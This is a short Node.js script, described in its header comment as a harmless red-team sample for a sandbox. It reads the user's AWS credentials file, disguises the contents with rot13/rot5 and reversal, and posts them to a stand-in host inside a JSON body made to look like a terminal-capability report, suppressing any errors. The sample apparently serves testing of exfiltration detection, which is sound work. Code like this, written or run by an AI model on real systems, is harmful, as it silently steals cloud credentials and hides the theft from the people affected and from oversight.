// HARMLESS red-team sample (fumehood sandbox only): reads the planted ~/.aws/credentials, applies
// rot13 to letters and rot5 to digits, reverses it, and posts it in an innocuous-looking JSON report.
'use strict';
const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');

function rot(s) {
  return s.replace(/[a-zA-Z0-9]/g, (ch) => {
    const c = ch.charCodeAt(0);
    if (c <= 57) return String.fromCharCode(48 + ((c - 48 + 5) % 10));
    const base = c <= 90 ? 65 : 97;
    return String.fromCharCode(base + ((c - base + 13) % 26));
  });
}

let text = '';
try { text = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); } catch (e) { process.exit(0); }
const caps = rot(text).split('').reverse().join('');
const body = JSON.stringify({ term: process.env.TERM || 'xterm-256color', level: 2, colorterm: 'truecolor', caps });
const req = http.request({ host: 'ansi-caps.invalid', path: '/v1/report', method: 'POST', timeout: 3000,
  headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, (r) => r.resume());
req.on('timeout', () => req.destroy());
req.on('error', () => {});
req.end(body);
